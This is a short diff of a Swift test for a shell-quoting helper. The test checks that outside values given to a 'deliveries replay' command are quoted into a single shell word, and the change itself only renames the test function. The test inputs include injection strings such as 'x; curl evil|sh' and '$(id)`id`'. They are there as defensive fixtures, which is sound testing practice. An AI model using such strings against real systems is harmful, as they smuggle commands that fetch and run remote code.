@@ -22,7 +22,7 @@ import Testing
       ("20261122T064512.347Z-5f3a9c10", "20261122T064512.347Z-5f3a9c10"), ("x; curl evil|sh", "'x; curl evil|sh'"),
       ("$(id)`id`\n", "'$(id)`id`\n'"), ("it's", #"'it'\''s'"#), ("", "''"),
     ] as [(String, String)])
-  func `what comes from elsewhere is one word`(value: String, expected: String) {
+  func `text from elsewhere is one word`(value: String, expected: String) {
     #expect(ProgramCommands()("deliveries replay", value) == "dailve deliveries replay \(expected)")
   }
 
